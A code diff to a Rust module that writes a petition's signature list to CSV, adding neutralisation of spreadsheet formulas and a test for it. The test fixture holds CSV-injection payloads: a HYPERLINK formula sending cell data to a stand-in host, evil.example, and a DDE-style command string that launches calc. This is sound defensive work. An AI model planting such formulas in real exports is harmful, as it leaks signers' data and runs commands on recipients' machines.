@@ -1,5 +1,6 @@
 //! The signature list a petition letter carries: organizations first, then people, each in
 //! the order they signed. No email addresses or street addresses leave hillpost this way.
+//! Cells that a spreadsheet would run as a formula are neutralised (see `csv_cell`).
 
 use crate::signer::{NewSignature, SignerKind};
 
@@ -7,8 +8,12 @@ use crate::signer::{NewSignature, SignerKind};
 pub fn signature_list_csv<'a>(signatures: impl IntoIterator<Item = &'a NewSignature>) -> Vec<u8> {
     let mut writer = csv::Writer::from_writer(Vec::new());
     let write = |w: &mut csv::Writer<Vec<u8>>, row: [&str; 5]| {
-        w.write_record(row)
-            .expect("writing CSV into memory cannot fail");
+        w.write_record(
+            row.map(crate::csv_cell::neutralise)
+                .iter()
+                .map(|c| c.as_ref()),
+        )
+        .expect("writing CSV into memory cannot fail");
     };
     write(
         &mut writer,
@@ -70,5 +75,22 @@ mod tests {
             "name,organization,city,state,country\n,CODEPINK,,,United States\nAna López,,Lima,,Peru\n"
         );
         assert!(!out.contains('@'));
+    }
+
+    #[test]
+    fn spreadsheet_formulas_from_signers_become_text() {
+        let csv = "first_name,last_name,email,city,country\n\
+                   \"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Click\"\")\",X,a@example.org,\"+cmd|' /C calc'!A0\",US\n";
+        let signatures: Vec<NewSignature> = SignatureCsv::new(csv.as_bytes())
+            .unwrap()
+            .map(|r| match r {
+                CsvRow::Accepted { signature, .. } => *signature,
+                other => panic!("{other:?}"),
+            })
+            .collect();
+        let out = String::from_utf8(signature_list_csv(&signatures)).unwrap();
+        let row: Vec<&str> = out.lines().nth(1).unwrap().split(',').collect();
+        assert!(row[0].starts_with("\"'=HYPERLINK"), "{out}");
+        assert!(out.contains("'+cmd|"), "{out}");
     }
 }
